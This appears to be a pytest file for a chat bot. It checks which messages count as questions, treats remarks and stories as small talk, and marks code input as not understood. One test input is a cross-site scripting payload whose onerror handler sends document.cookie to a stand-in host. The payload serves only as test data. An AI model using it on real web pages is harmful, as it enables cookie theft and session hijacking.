"""Remarks near the bot: what asks it nothing gets silence."""

import pytest

from bot.core.language.smalltalk import Talk
from bot.core.matching.answerer import Answerer
from bot.core.matching.dialogue import asks_something
from bot.core.matching.outcome import NotUnderstood, SmallTalk


def asks(answerer: Answerer, message: str, *, in_passing: bool = False) -> bool:
    return asks_something(message, answerer.ask(message), in_passing=in_passing)


@pytest.mark.parametrize(
    "remark",
    [
        "told you", "so it is Nara", "Ben you owe me 5 euros", "+1", "stupid bot", "lol ok", "😂", "nice", "i see",
        "fair enough", "that makes sense", "ok horyu something", "so symbolic AND practical", "older than i thought",
        "great, thanks a ton!!", "not true", "Kenji was right about the temple", "i said Nara", "ok it doesn't know",
        "haha the deer", "my grandma was born there", "they should have met in Kyoto",
    ],
)  # fmt: skip
def test_a_remark_asks_nothing(shipped: Answerer, remark: str) -> None:
    assert not asks(shipped, remark)


@pytest.mark.parametrize(
    "question",
    [
        "how old is it",
        "and why?",
        "which temple",
        "and the temple",
        "tell me about the mining accident",
        "did Lee go to Beijing",
    ],
)
def test_a_question_asks(shipped: Answerer, question: str) -> None:
    assert asks(shipped, question)


@pytest.mark.parametrize("said", ["i asked this bot where they meet", "has anybody asked this bot where they meet?"])
def test_in_passing_only_what_the_bot_is_is_asked(shipped: Answerer, said: str) -> None:
    assert not asks(shipped, said, in_passing=True)
    assert asks(shipped, "what does this bot do?", in_passing=True)


@pytest.mark.parametrize(
    "code", ["<img src=x onerror=\"fetch('//e.example/'+document.cookie)\">", "for (i=0;i<9;i++) { a[i] = b[i]; }"]
)
def test_code_is_not_understood(shipped: Answerer, code: str) -> None:
    assert shipped.ask(code) == NotUnderstood()


def test_a_story_is_no_question_that_the_article_would_have_to_answer(shipped: Answerer) -> None:
    for said in ("the wind had my hat off at the bus stop yesterday", "Three miles each way I walked to school"):
        assert shipped.ask(said) == SmallTalk(Talk.CHATTER), said
